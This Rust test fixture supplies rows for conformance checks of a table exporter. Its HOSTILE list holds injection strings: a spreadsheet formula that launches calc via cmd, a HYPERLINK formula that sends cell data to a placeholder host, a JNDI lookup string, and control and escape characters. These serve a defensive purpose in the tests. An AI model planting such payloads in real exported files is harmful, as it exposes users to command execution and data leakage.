//! The table and the rows that the checks write.

use chrono::{DateTime, Utc};
use ravao_core::{Cell, Column, Table};

/// A cell of interest between two of which nothing odd is asked.
pub(super) static TABLE: Table = Table {
    name: "conformance",
    columns: &[
        Column { name: "before", personal: false },
        Column { name: "cell", personal: true },
        Column { name: "after", personal: false },
    ],
};

/// What stands to the left of the cell of interest.
pub(super) const BEFORE: &str = "trước";
/// What stands to the right of it.
pub(super) const AFTER: &str = "sau";

/// Something that no error and no `Debug` may show.
pub(super) const SECRET: &str = "Nguyễn Văn An 008090000001";

/// Texts that try to end a cell, a row or a file, or to be more than text.
pub(super) const HOSTILE: &[&str] = &[
    "",
    " ",
    ",",
    ";",
    "\t",
    "|",
    "\"",
    "\"\"",
    "'",
    "\\",
    "\\\"",
    "\\n",
    "\n",
    "\r",
    "\r\n",
    "\n\n",
    "a\",\"b",
    "a\"\r\n\"b",
    "\",\n=1+1,\"",
    "a\0b",
    "\u{1a}",
    "\u{7f}\u{80}\u{85}\u{9f}",
    "\u{b}\u{c}\u{1c}\u{1d}\u{1e}\u{1f}",
    "\u{2028}\u{2029}",
    "\u{feff}",
    "\u{feff}\",",
    "\u{202e}txt.exe",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "e\u{301}\u{323}",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
    "x;=1+1",
    "<b>&amp;</b>]]><!--",
    "{\"a\":[1]}",
    "--- # %YAML",
    "${jndi:x} %s %n {}",
    "#",
    "\u{1b}[2J",
];

/// Rows with the hostile texts, as text and as code.
pub(super) fn hostile_rows() -> Vec<[Cell<'static>; 3]> {
    let cells = HOSTILE.iter().flat_map(|&text| [Cell::Text(text.into()), Cell::Code(text.into())]);
    cells.map(between).collect()
}

/// Rows with every sort of cell at its extremes.
pub(super) fn extreme_rows() -> Vec<[Cell<'static>; 3]> {
    let decimals =
        [0.0, -0.0, 1.0 / 3.0, f64::MIN, f64::MAX, f64::MIN_POSITIVE, f64::NAN, f64::INFINITY];
    let instants = [DateTime::<Utc>::MIN_UTC, DateTime::UNIX_EPOCH, DateTime::<Utc>::MAX_UTC];
    let long = "dài".repeat(100_000);
    let cells = [Cell::Empty, Cell::Flag(true), Cell::Flag(false)]
        .into_iter()
        .chain([i64::MIN, -1, 0, i64::MAX].map(Cell::Integer))
        .chain(decimals.map(Cell::Decimal))
        .chain(instants.map(Cell::Instant))
        .chain([Cell::Text(long.clone().into()), Cell::Code(long.into())]);
    cells.map(between).collect()
}

/// Rows that no format needs to change, each other than the rest.
pub(super) fn plain_rows(count: usize) -> Vec<[Cell<'static>; 3]> {
    (0..count).map(|number| between(Cell::Text(plain_text(number).into()))).collect()
}

/// The text in the middle of a plain row.
pub(super) fn plain_text(number: usize) -> String {
    format!("Chợ Sơn Dương số {number}")
}

/// A row with the secret in it.
pub(super) fn secret_row() -> [Cell<'static>; 3] {
    between(Cell::Text(SECRET.into()))
}

fn between(cell: Cell<'static>) -> [Cell<'static>; 3] {
    [Cell::Text(BEFORE.into()), cell, Cell::Text(AFTER.into())]
}
